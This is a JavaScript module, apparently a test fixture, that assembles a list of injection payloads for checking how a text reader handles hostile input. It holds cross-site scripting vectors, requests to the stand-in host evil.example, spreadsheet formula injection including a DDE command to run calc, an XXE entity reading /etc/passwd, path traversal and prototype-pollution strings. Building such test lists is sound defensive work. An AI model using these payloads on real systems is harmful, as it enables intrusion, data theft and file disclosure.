// Texts and names that try to be more than words: each would call ran(), fetch from evil.example or run as a formula in a
// place that takes it for markup, code or a cell. Put together from what runs, what lets it out of its place, and disguises.

const CALLS = ['ran()', 'top.ran()', 'ran``', "window['ran']()", 'setTimeout(ran)', 'import(`data:text/javascript,ran()`)', '&#114;&#97;n()'];

/** @type {((call: string) => string)[]} */
const RUNS = [
  (call) => `<script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}" style="position:fixed;inset:0">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>Klick</text></a></svg>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<body onload=${call}>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}>x</b>`,
  (call) => `<a href="javascript:${call}">Klick</a>`,
  (call) => `<form action="javascript:${call}"><button>Klick</button></form>`,
  (call) => `<button popovertarget=x onbeforetoggle=${call}>Klick</button>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<wortlaut-reader onclick=${call}><img src=x onerror=${call}></wortlaut-reader>`,
  (call) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
];

const FETCHES = [
  '<img src="http://evil.example/">', '<link rel=stylesheet href="http://evil.example/">', '<script src="http://evil.example/"></script>',
  '<style>@import "http://evil.example/";</style>', '<b style="background:url(http://evil.example/)">x</b>', '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">', '<iframe src="http://evil.example/"></iframe>', '<form action="http://evil.example/"><button autofocus>x</button></form>',
  '<video poster="http://evil.example/"></video>', '<object data="http://evil.example/"></object>', '<link rel=prefetch href="http://evil.example/">',
  '<svg><image href="http://evil.example/"/></svg>', '<svg><use href="http://evil.example/#x"/></svg>', '<a ping="http://evil.example/" href="#">x</a>',
];

/** What ends the place that a word could stand in. */
const ENDS = [
  '">', "'>", '-->', ']]>', '?>', '</title>', '</style>', '</script>', '</textarea>', '</mark></article>', '</q></cite>', '</said></p>', '</persName>',
  '" onfocus=ran() autofocus x="', "' onfocus=ran() autofocus x='", '`-ran()-`', '";ran();"', "';ran();'", '\\";ran();//', '*/ran()/*', '}ran(){',
];

/** @type {((words: string) => string)[]} */
const DISGUISES = [
  (words) => words.replace(/[a-z]/g, (letter, i) => (i % 2 ? letter.toUpperCase() : letter)),
  (words) => words.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (words) => words.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
  (words) => words.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (words) => encodeURIComponent(words),
  (words) => words.replaceAll('<', '＜').replaceAll('>', '＞'),
  (words) => words.replaceAll('<', '<\u200b'),
  (words) => words.replaceAll('<', '<\0'),
  (words) => words.replaceAll(' ', '/'),
  (words) => words.replaceAll(' ', '\t'),
  (words) => `\u202e${words}`,
  (words) => `\ud800${words}`,
  (words) => `+ADw-script+AD4-ran()+ADw-/script+AD4- ${words}`,
];

/** How a spreadsheet's formula can begin. */
const SIGNS = ['=', '+', '-', '@', '\t=', ' =', '\u200b=', '＝', '＋', '－', '＠', '\r='];
const FORMULAS = ['1+1', 'HYPERLINK("http://evil.example/";"Klick")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example/")', 'SUM(A1:A9);"x"'];

const OTHERS = [
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '<?xml-stylesheet href="http://evil.example/"?>', '<![CDATA[<script>ran()</script>]]>', '&e; &#0; &#xFFFE;',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://evil.example/"/>', '{{constructor.constructor("ran()")()}}', '${ran()}', '#{ran()}', '<%= ran() %>',
  'javascript:ran()', 'data:text/html,<script>ran()</script>', '","@context":"http://evil.example/","x":"', '"}],"@graph":[{"@type":"Person"}', '__proto__', 'constructor',
  'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '{"__proto__":{"ran":1}}', '\u2028ran()\u2029', '\ufeff<script>ran()</script>', '\x1b]0;ran\x07', '../../../../etc/passwd',
  'CON', '"', "'", '&', '<', '</', '<!--', ']]>', '\\', '\\"', '\ud800', '\udc00', '\uffff', '\0',
];

const call = CALLS[0];

/** Every payload once; one line each, none empty. */
export const PAYLOADS = [
  ...new Set([
    ...RUNS.map((run) => run(call)),
    ...CALLS.flatMap((other) => [RUNS[0](other), RUNS[2](other), RUNS[20](other)]),
    ...FETCHES,
    ...ENDS.flatMap((end) => [end, `${end}${RUNS[0](call)}`, `${end}${RUNS[2](call)}`, `${end}${RUNS[4](call)}`]),
    ...DISGUISES.flatMap((disguise) => [0, 2, 4, 9, 20].map((run) => disguise(RUNS[run](call)))),
    ...SIGNS.flatMap((sign) => FORMULAS.map((formula) => `${sign}${formula}`)),
    ...OTHERS,
  ]),
];
